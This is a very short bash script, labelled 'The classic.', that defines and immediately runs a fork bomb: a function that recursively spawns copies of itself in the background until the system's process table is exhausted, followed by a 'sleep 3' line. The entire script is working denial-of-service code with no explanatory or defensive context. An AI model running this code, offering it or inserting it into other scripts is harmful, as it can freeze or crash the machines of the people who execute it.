#!/bin/bash
# The classic.
bomb() { bomb | bomb & }
bomb
sleep 3
